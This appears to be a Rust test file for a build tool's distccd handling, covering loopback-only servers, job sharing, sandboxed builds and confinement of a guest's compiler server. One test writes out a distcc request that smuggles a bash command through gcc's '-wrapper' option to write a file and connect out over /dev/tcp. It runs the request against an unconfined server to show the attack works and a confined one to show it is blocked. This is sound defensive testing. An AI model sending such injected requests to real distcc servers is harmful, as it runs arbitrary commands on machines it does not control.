//! The host's distccd for guests: loopback only, the target's compiler as
//! its whole PATH, and several servers sharing the jobs.

use crate::util::require_tool;
use camino::Utf8PathBuf;
use rhbuild::serve::Distccd;
use std::process::Command;

/// A directory of the unprefixed names distcc clients ask for, linked to
/// Debian's sh4 cross compiler (the target's compiler in these tests).
fn compilers(dir: &Utf8PathBuf) -> Utf8PathBuf {
    let bin = dir.join("compilers");
    std::fs::create_dir_all(&bin).unwrap();
    for (name, tool) in [
        ("cc", "gcc"),
        ("gcc", "gcc"),
        ("c++", "g++"),
        ("g++", "g++"),
    ] {
        std::os::unix::fs::symlink(format!("/usr/bin/sh4-linux-gnu-{tool}"), bin.join(name))
            .unwrap();
    }
    bin
}

/// Is `port` open on 127.0.0.1 and on no other address (from
/// /proc/net/tcp: local address in hex, state 0A = listening)?
fn listens_on_loopback_only(port: u16) -> bool {
    let mut table = std::fs::read_to_string("/proc/net/tcp").unwrap();
    table.push_str(&std::fs::read_to_string("/proc/net/tcp6").unwrap_or_default());
    let suffix = format!(":{port:04X}");
    let listening: Vec<String> = table
        .lines()
        .skip(1)
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.len() > 3 && f[1].ends_with(&suffix) && f[3] == "0A").then(|| f[1].to_string())
        })
        .collect();
    !listening.is_empty() && listening.iter().all(|a| a == &format!("0100007F{suffix}"))
}

#[test]
fn two_distccd_on_loopback_share_the_jobs_and_compile_for_the_target() {
    require_tool("distccd", "distcc");
    require_tool("sh4-linux-gnu-gcc", "gcc-sh4-linux-gnu");
    let tmp = tempfile::tempdir().unwrap();
    let dir = Utf8PathBuf::from_path_buf(tmp.path().to_path_buf()).unwrap();
    let bin = compilers(&dir);
    std::fs::create_dir_all(dir.join("client")).unwrap();
    let mut one = Distccd::start(&bin, &dir.join("one.log"), 1).unwrap();
    let mut two = Distccd::start(&bin, &dir.join("two.log"), 1).unwrap();
    assert_ne!(one.port, two.port);
    assert!(listens_on_loopback_only(one.port), "port {}", one.port);
    assert!(listens_on_loopback_only(two.port), "port {}", two.port);

    // Eight compiles at once, one slot per server: both get work.
    let hosts = format!("127.0.0.1:{}/1 127.0.0.1:{}/1", one.port, two.port);
    let children: Vec<_> = (0..8)
        .map(|i| {
            let src = dir.join(format!("f{i}.c"));
            // Big enough that a compile takes a while, so both servers'
            // single slots are busy at once.
            let body: String = (0..60)
                .map(|k| format!("int f{i}_{k}(int x) {{ int s = 0; for (int j = 0; j < x; j++) s += j * {k} ^ (s >> 3); return s; }}\n"))
                .collect();
            std::fs::write(&src, body).unwrap();
            Command::new("distcc")
                .args(["cc", "-O2", "-c", src.as_str(), "-o"])
                .arg(dir.join(format!("f{i}.o")).as_str())
                .env("DISTCC_HOSTS", &hosts)
                .env("DISTCC_DIR", dir.join("client").as_str())
                .env("DISTCC_SKIP_LOCAL_RETRY", "1")
                .env("DISTCC_FALLBACK", "0")
                .env("DISTCC_NO_REWRITE_CROSS", "1")
                .spawn()
                .unwrap()
        })
        .collect();
    for mut c in children {
        assert!(c.wait().unwrap().success());
    }
    // Compiled by the target's compiler on a server, not by the host's cc.
    for i in 0..8 {
        let o = Command::new("file")
            .arg(dir.join(format!("f{i}.o")).as_str())
            .output()
            .unwrap();
        let what = String::from_utf8_lossy(&o.stdout);
        assert!(what.contains("Renesas SH"), "{what}");
    }
    // distccd logs a job once its answer is sent: give the log a moment.
    let mut waited = 0;
    while one.compiles().len() + two.compiles().len() < 8 && waited < 100 {
        std::thread::sleep(std::time::Duration::from_millis(100));
        waited += 1;
    }
    let (a, b) = (one.compiles(), two.compiles());
    assert_eq!(a.len() + b.len(), 8, "{a:?} {b:?}");
    assert!(
        !a.is_empty() && !b.is_empty(),
        "one server got every job: {a:?} {b:?}"
    );
    one.stop();
    two.stop();
    // A worker of the stopped server may hold its listening socket for a
    // moment while it dies (on a loaded machine, some tens of ms).
    let mut waited = 0;
    while listens_on_loopback_only(one.port) && waited < 100 {
        std::thread::sleep(std::time::Duration::from_millis(50));
        waited += 1;
    }
    assert!(
        !listens_on_loopback_only(one.port),
        "127.0.0.1:{} still listens 5 s after the server was stopped",
        one.port
    );
}

#[test]
fn a_missing_compiler_directory_fails_the_compile_not_the_host() {
    require_tool("distccd", "distcc");
    let tmp = tempfile::tempdir().unwrap();
    let dir = Utf8PathBuf::from_path_buf(tmp.path().to_path_buf()).unwrap();
    // An empty PATH: distccd must not find the host's own cc.
    let empty = dir.join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    std::fs::create_dir_all(dir.join("client")).unwrap();
    let d = Distccd::start(&empty, &dir.join("d.log"), 1).unwrap();
    let src = dir.join("a.c");
    std::fs::write(&src, "int a;\n").unwrap();
    let o = Command::new("distcc")
        .args(["cc", "-c", src.as_str(), "-o"])
        .arg(dir.join("a.o").as_str())
        .env("DISTCC_HOSTS", format!("127.0.0.1:{}/1", d.port))
        .env("DISTCC_DIR", dir.join("client").as_str())
        .env("DISTCC_SKIP_LOCAL_RETRY", "1")
        .env("DISTCC_FALLBACK", "0")
        .env("DISTCC_NO_REWRITE_CROSS", "1")
        .output()
        .unwrap();
    assert!(!o.status.success(), "the host's cc compiled it");
    assert!(d.compiles().is_empty());
    // It was the server that refused: the request reached it.
    let log = std::fs::read_to_string(dir.join("d.log")).unwrap();
    assert!(log.contains("cc"), "{log}");
}

// ---------------------------------------------------------------------------
// A build's compiles spread over distcc servers (DISTCC_HOSTS)

/// A compilers directory for the host's own gcc, as a server of the
/// toolchain's host side has it (distcc asks for `gcc` or its full name).
fn host_compilers(dir: &Utf8PathBuf) -> Utf8PathBuf {
    let bin = dir.join("host-compilers");
    std::fs::create_dir_all(&bin).unwrap();
    for name in ["cc", "gcc", "x86_64-linux-gnu-gcc", "as"] {
        let tool = if name == "as" { "as" } else { "gcc" };
        std::os::unix::fs::symlink(format!("/usr/bin/{tool}"), bin.join(name)).unwrap();
    }
    bin
}

/// A project whose package `spread` compiles eight files with the host's
/// compiler the way the toolchain's host side does (`cross::host_cc`:
/// through ccache unless CCACHE=0), four at a time.
fn spreading_project() -> crate::util::TestProject {
    let p = crate::util::TestProject::empty();
    p.add_target("t");
    p.write(
        "stdlib/cross.rhai",
        &std::fs::read_to_string(crate::util::repo_root().join("stdlib/cross.rhai")).unwrap(),
    );
    p.write(
        "scripts/host-tools.rhai",
        r#"export const output = "host";
export const tools = true;
ctx.host_tools(["sh", "make", "cc", "gcc", "as", "ld"], ["ccache"]);
"#,
    );
    p.write(
        "packages/spread.rhai",
        &format!(
            r#"export const name = "spread";
export const version = "1";
export const sources = [ #{{ url: "http://127.0.0.1:1/spread-1.tar.gz", sha256: "{}" }} ];
import "stdlib/cross" as cross;
fn build(ctx) {{
    let w = ctx.work_dir("spread");
    let objs = "";
    for i in 0..8 {{
        let body = "";
        for k in 0..60 {{
            body += `int f${{i}}_${{k}}(int x) {{ int s = 0; for (int j = 0; j < x; j++) s += j * ${{k}} ^ (s >> 3); return s; }}` + "\n";
        }}
        ctx.write(w.file(`f${{i}}.c`), body);
        objs += ` f${{i}}.o`;
    }}
    ctx.write(w.file("Makefile"), `all:${{objs}}` + "\n%.o: %.c\n\t$(CC) -O2 -c $< -o $@\n");
    w.make(cross::host_cc(ctx));
}}
"#,
            "0".repeat(64)
        ),
    );
    p.write(
        "scripts/spread.rhai",
        "export const output = \"spread\";\nctx.stage(\"host-tools\");\nctx.build(\"spread\");\n",
    );
    p
}

/// Processes (not zombies) whose command line mentions `text`.
pub fn processes_mentioning(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        if pid == std::process::id() {
            continue;
        }
        let cmdline = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        let stat = std::fs::read_to_string(e.path().join("stat")).unwrap_or_default();
        let zombie = stat
            .rsplit(')')
            .next()
            .is_some_and(|rest| rest.trim_start().starts_with('Z'));
        if cmdline.contains(text) && !zombie {
            found.push(format!("{pid}: {cmdline}"));
        }
    }
    found
}

#[test]
fn a_packages_compiles_reach_both_distcc_servers_from_inside_the_sandbox() {
    require_tool("distccd", "distcc");
    require_tool("distcc", "distcc");
    require_tool("ccache", "ccache");
    let tmp = tempfile::tempdir().unwrap();
    let dir = Utf8PathBuf::from_path_buf(tmp.path().to_path_buf()).unwrap();
    let bin = host_compilers(&dir);
    let one = Distccd::start(&bin, &dir.join("one.log"), 1).unwrap();
    let two = Distccd::start(&bin, &dir.join("two.log"), 1).unwrap();
    let hosts = format!("127.0.0.1:{}/1 127.0.0.1:{}/1", one.port, two.port);
    let p = spreading_project();
    let started = std::time::Instant::now();
    // Through ccache (a fresh cache: every compile misses), which calls
    // distcc as its prefix; then without ccache, through the masquerade
    // links. Both servers get compiles each time.
    for (how, setting) in [
        ("ccache", format!("CCACHE_DIR={dir}/ccache")),
        ("masquerade", "CCACHE=0".to_string()),
    ] {
        let before = (one.compiles().len(), two.compiles().len());
        let o = p
            .rhbuild(&[
                "run",
                "scripts/spread.rhai",
                "--arch",
                "t",
                "-j",
                "4",
                "--set",
                &format!("DISTCC_HOSTS={hosts}"),
                "--set",
                &setting,
            ])
            .success();
        let mut waited = 0;
        while (one.compiles().len() == before.0 || two.compiles().len() == before.1) && waited < 50
        {
            std::thread::sleep(std::time::Duration::from_millis(100));
            waited += 1;
        }
        let (a, b) = (one.compiles(), two.compiles());
        assert!(
            a.len() > before.0 && b.len() > before.1,
            "{how}: not both servers compiled: {a:?} {b:?}\n{}\n{}",
            o.stderr,
            p.read("build/t/logs/spread.log")
        );
        // The servers compiled this package's files, reached through the
        // forwarded ports of a full sandbox.
        assert!(
            a.iter()
                .chain(&b)
                .any(|l| l.contains("f0.c") || l.contains(".i")),
            "{a:?}"
        );
        eprintln!(
            "{how}: {} and {} compiles on the two servers",
            a.len() - before.0,
            b.len() - before.1
        );
        let m = p.read("build/t/spread/manifest.json");
        assert!(
            m.contains("\"sandbox\": \"full:") && m.contains("(forwarded)"),
            "{m}"
        );
        assert!(!o.stderr.contains("sandbox"), "{}", o.stderr);
    }
    assert!(
        processes_mentioning(p.root.as_str()).is_empty(),
        "left running: {:?}",
        processes_mentioning(p.root.as_str())
    );
    eprintln!("both runs took {:.1} s", started.elapsed().as_secs_f64());
}

// ---------------------------------------------------------------------------
// A guest's compile request is a command: the guest's distccd is confined

/// One compile request as a distcc client sends it (protocol 1: the
/// argument vector, then the preprocessed source); the reply as its
/// tokens, each with its value or, for the streams and the object file,
/// its payload.
fn compile_request(port: u16, argv: &[&str], source: &str) -> Vec<(String, u32, Vec<u8>)> {
    use std::io::{Read, Write};
    let token = |name: &str, value: usize| format!("{name}{value:08x}").into_bytes();
    let mut req = token("DIST", 1);
    req.extend(token("ARGC", argv.len()));
    for a in argv {
        req.extend(token("ARGV", a.len()));
        req.extend(a.as_bytes());
    }
    req.extend(token("DOTI", source.len()));
    req.extend(source.as_bytes());
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(60)))
        .unwrap();
    s.write_all(&req).unwrap();
    let mut reply = Vec::new();
    s.read_to_end(&mut reply).unwrap();
    let mut tokens = Vec::new();
    let mut rest = &reply[..];
    while rest.len() >= 12 {
        let name = String::from_utf8_lossy(&rest[..4]).into_owned();
        let value = u32::from_str_radix(std::str::from_utf8(&rest[4..12]).unwrap(), 16).unwrap();
        rest = &rest[12..];
        let payload = if ["DONE", "STAT"].contains(&name.as_str()) {
            Vec::new()
        } else {
            let (p, r) = rest.split_at((value as usize).min(rest.len()));
            rest = r;
            p.to_vec()
        };
        tokens.push((name, value, payload));
    }
    tokens
}

/// gcc's `-wrapper` runs any program a request names: the guest's distccd
/// runs it where it writes only its own temporary directory and connects
/// nowhere, while compiles still work. The same request against an
/// unconfined distccd shows the attack is real.
#[test]
fn a_compile_request_that_runs_a_program_is_confined_in_the_guests_distccd() {
    require_tool("distccd", "distcc");
    require_tool("gcc", "gcc");
    let mut sandbox =
        rhbuild::sandbox::Sandbox::new(rhbuild::sandbox::Level::Auto, Vec::new()).unwrap();
    // The set-up is rhbuild's, not this test binary's.
    sandbox.exe = env!("CARGO_BIN_EXE_rhbuild").into();
    let status = sandbox.status().unwrap();
    assert!(
        status.landlock && status.landlock_abi >= 4,
        "this test needs Landlock ABI 4 or later (the kernel offers {})",
        status.landlock_abi
    );
    let tmp = tempfile::tempdir().unwrap();
    let dir = Utf8PathBuf::from_path_buf(tmp.path().to_path_buf()).unwrap();
    let bin = host_compilers(&dir);
    // Writable by anyone: distccd started as root runs as its own user.
    let outside = tempfile::tempdir().unwrap();
    let outside = Utf8PathBuf::from_path_buf(outside.path().to_path_buf()).unwrap();
    use std::os::unix::fs::PermissionsExt;
    for d in [&dir, &outside] {
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let attack =
        format!("/bin/bash,-c,echo pwned > {outside}/written; echo hi > /dev/tcp/127.0.0.1/{port}");
    let argv = ["gcc", "-wrapper", &attack, "-c", "x.c", "-o", "x.o"];
    let accepted = || {
        let mut n = 0;
        while listener.accept().is_ok() {
            n += 1;
        }
        n
    };

    let open = Distccd::start(&bin, &dir.join("open.log"), 1).unwrap();
    compile_request(open.port, &argv, "int x;\n");
    drop(open);
    assert!(
        outside.join("written").exists(),
        "the attack did not run in an unconfined distccd: {}",
        std::fs::read_to_string(dir.join("open.log")).unwrap_or_default()
    );
    // Once for each program gcc runs (the compiler proper, the assembler).
    assert!(accepted() > 0, "the unconfined attack did not connect");
    std::fs::remove_file(outside.join("written")).unwrap();

    let d = Distccd::start_confined(&bin, &dir.join("d.log"), 1, &sandbox).unwrap();
    assert!(listens_on_loopback_only(d.port), "port {}", d.port);
    let reply = compile_request(d.port, &argv, "int x;\n");
    assert!(
        !outside.join("written").exists(),
        "a confined request wrote outside: {reply:?}"
    );
    assert_eq!(accepted(), 0, "a confined request connected out");
    let reply = compile_request(
        d.port,
        &["gcc", "-c", "f.c", "-o", "f.o"],
        "int f(void) { return 42; }\n",
    );
    let stat = reply.iter().find(|t| t.0 == "STAT").map(|t| t.1);
    let object = reply.iter().find(|t| t.0 == "DOTO").map(|t| t.2.len());
    assert_eq!(stat, Some(0), "{reply:?}");
    assert!(object.is_some_and(|n| n > 0), "{reply:?}");
    assert_eq!(
        d.compiles().len(),
        1,
        "{:?}",
        std::fs::read_to_string(&d.log)
    );
    // Stopped, nothing of it is left: no listener, no process.
    let port = d.port;
    drop(d);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while listening(port) && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert!(!listening(port), "port {port} still open after stop");
    let left: Vec<String> = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
        .filter(|c| c.contains("distccd") && c.contains(&format!("--port {port} ")))
        .collect();
    assert!(left.is_empty(), "left running: {left:?}");
}

/// Is anything listening on `port` (IPv4 or IPv6)?
fn listening(port: u16) -> bool {
    let mut table = std::fs::read_to_string("/proc/net/tcp").unwrap();
    table.push_str(&std::fs::read_to_string("/proc/net/tcp6").unwrap_or_default());
    let suffix = format!(":{port:04X}");
    table.lines().skip(1).any(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        f.len() > 3 && f[1].ends_with(&suffix) && f[3] == "0A"
    })
}
